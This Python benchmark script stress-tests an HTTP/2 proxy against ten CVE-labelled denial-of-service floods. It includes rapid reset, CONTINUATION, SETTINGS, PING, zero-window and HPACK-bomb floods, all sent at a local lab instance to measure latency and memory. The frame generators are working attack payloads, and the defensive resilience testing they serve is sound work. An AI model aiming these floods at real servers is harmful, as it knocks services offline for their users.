#!/usr/bin/env python3
"""Floods of HTTP/2: what others notice of clients that keep a proxy busy for nothing.

    benches/floods.py                   builds the release binary; every flood for five seconds
    benches/floods.py --only rapid-reset --seconds 30 --senders 8 --anteroom target/release/anteroom

Some processes each send one kind of flood over a connection in clear text, and make another one when that
is cut, while a visitor asks for a page ten times a second. It prints what was sent, how many connections
were cut, the longest that the visitor waited, and the memory of the proxy before, at most, and after. It
fails where the visitor was not answered. Needs nginx-light.
"""

import argparse
import itertools
import multiprocessing
import pathlib
import socket
import struct
import sys
import time

import lab

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
INITIAL_WINDOW_SIZE = 4
# Frames that are sent at a time.
BATCH = 64
# What a client may do to streams before they are used up.
STREAMS = range(1, 1 << 31, 2)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, prefix_bits, first=0):
    """RFC 7541 section 5.1."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    value, coded = value - most, [first | most]
    while value >= 128:
        coded.append(value % 128 | 128)
        value //= 128
    return bytes([*coded, value])


def field(name, value, indexed=False):
    """A field in plain text; `indexed`: the decoder keeps it."""
    texts = b"".join(number(len(text), 7) + text for text in (name.encode(), value.encode()))
    return bytes([0x40 if indexed else 0x00]) + texts


def request(path="/page", method="GET"):
    fields = {":method": method, ":scheme": "http", ":path": path, ":authority": "bench.test"}
    return b"".join(field(name, value) for name, value in fields.items())


def get(stream, path="/page"):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path))


# Each flood is what follows the preface and the settings, piece by piece, without an end.


def rapid_reset():
    """CVE-2023-44487."""
    cancel = struct.pack(">I", 8)
    for stream in STREAMS:
        yield get(stream) + frame(RST_STREAM, 0, stream, cancel)


def made_you_reset():
    """CVE-2025-8671: each request is taken back for a frame that makes no sense."""
    for stream in STREAMS:
        yield get(stream, "/large.html") + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def continuation():
    """CVE-2024-27316: a head without an end."""
    yield frame(HEADERS, END_STREAM, 1, request())
    piece = b"".join(field(f"x-{nth}", "y" * 100) for nth in range(100))
    while True:
        yield frame(CONTINUATION, 0, 1, piece)


def empty_continuation():
    yield frame(HEADERS, END_STREAM, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1) * 64


def settings():
    """CVE-2019-9515; the answers are not read."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535))


def ping():
    """CVE-2019-9512; the answers are not read."""
    while True:
        yield frame(PING, 0, 0, b"anteroom")


def empty_data():
    """CVE-2019-9518."""
    yield frame(HEADERS, END_HEADERS, 1, request(method="POST"))
    while True:
        yield frame(DATA, 0, 1)


def priority():
    """CVE-2019-9513."""
    for stream in itertools.cycle(range(3, 2_000, 2)):
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 1, 16))


def zero_window():
    """CVE-2019-9517: a hundred streams ask for a megabyte each and take nothing of it."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    yield b"".join(get(stream, "/large.html") for stream in STREAMS[:100])
    while True:
        yield b""


def hpack_bomb():
    """One field of 4 KB is sent once and then named in a byte, thousands of times in each request."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, request() + field("x-bomb", "y" * 3_900, True))
    # The newest entry of the dynamic table.
    bomb = number(62, 7, 0x80) * 16_000
    for stream in STREAMS[1:]:
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, request() + bomb)


# And whether its answers are read.
FLOODS = {
    "rapid-reset": (rapid_reset, True),
    "made-you-reset": (made_you_reset, True),
    "continuation": (continuation, True),
    "empty-continuation": (empty_continuation, True),
    "settings": (settings, False),
    "ping": (ping, False),
    "empty-data": (empty_data, True),
    "priority": (priority, True),
    "zero-window": (zero_window, True),
    "hpack-bomb": (hpack_bomb, True),
}


def send(name, port, until, results):
    """Sends one kind of flood, on one connection after the other: how many were cut, and bytes sent."""
    flood, reads = FLOODS[name]
    connections = sent = 0
    while time.monotonic() < until:
        connections += 1
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as peer:
                peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for piece in batches(flood()):
                    if time.monotonic() >= until:
                        connections -= 1
                        break
                    peer.sendall(piece)
                    sent += len(piece)
                    if not piece:
                        time.sleep(0.05)
                    if reads:
                        take(peer)
        except TimeoutError:
            # It is not read any more, and stays open while we wait.
            connections -= 1
        except OSError:
            # It was cut.
            pass
    results.put((connections, sent))


def batches(pieces):
    """Small pieces in batches; an empty one, for a pause, as it is."""
    while True:
        batch = list(itertools.islice(pieces, BATCH))
        if not batch:
            return
        # What is large goes out by itself, for the connection may end with it.
        yield b"".join(batch)


def take(peer):
    """What has come, up to a megabyte."""
    peer.setblocking(False)
    try:
        for _ in range(16):
            if not peer.recv(1 << 16):
                raise ConnectionError("it was closed")
    except BlockingIOError:
        pass
    finally:
        peer.settimeout(1)


def measure(name, proxy, options):
    proxy.reset_peak()
    before = proxy.memory_kib("VmRSS")
    results = multiprocessing.Queue()
    until = time.monotonic() + options.seconds
    with lab.Visitor(proxy.port) as visitor:
        senders = [
            multiprocessing.Process(target=send, args=(name, proxy.port, until, results))
            for _ in range(options.senders)
        ]
        for sender in senders:
            sender.start()
        came = [results.get() for _ in senders]
        for sender in senders:
            sender.join()
    cut, sent = (sum(column) for column in zip(*came))
    most, after = proxy.memory_kib("VmHWM"), proxy.memory_kib("VmRSS")
    print(f"{name}: {sent / 1e6:.1f} MB sent, {cut} connections cut")
    print(f"    {visitor.told()}")
    print(f"    memory: {before} KiB before, {most} KiB at most, {after} KiB after", flush=True)
    return not visitor.failures


def main():
    parser = argparse.ArgumentParser(description="What others notice of floods of HTTP/2.")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--senders", type=int, default=4)
    parser.add_argument("--only", choices=list(FLOODS))
    parser.add_argument("--anteroom", help="the binary to measure, instead of a release build")
    options = parser.parse_args()

    binary = lab.anteroom_binary(options.anteroom)
    print(lab.machine())
    # All come from one address here.
    more = "[limits]\nconnections_per_address = 20_000\n"
    well = True
    with lab.scratch_folder() as scratch:
        folder = pathlib.Path(scratch)
        with lab.nginx_origin(folder, more=lab.large_page(folder)) as origin:
            with lab.anteroom(binary, folder, origin.port, more=more) as proxy:
                for name in FLOODS:
                    if options.only in (None, name):
                        well &= measure(name, proxy, options)
                print("cut by cause, as the proxy counts:")
                for line, value in lab.metrics(proxy).items():
                    if "cut" in line and value:
                        print(f"    {line} {value:.0f}")
    sys.exit(not well)


if __name__ == "__main__":
    main()
